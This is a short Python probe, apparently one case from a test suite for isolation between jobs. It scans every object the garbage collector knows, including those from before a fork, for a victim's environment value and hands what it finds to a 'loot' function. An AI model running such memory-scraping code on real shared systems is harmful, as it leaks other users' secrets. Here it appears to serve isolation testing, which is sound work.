# kind: other_jobs
# tries: Every object that the collector knows, from before the fork too
# control: none

import gc

text = " ".join(repr(o)[:2000] for o in gc.get_objects() if isinstance(o, (dict, list, tuple)) and len(o) < 200)
at = text.find(VICTIM["env"])
loot(text[at : at + 200] if at >= 0 else "nothing")
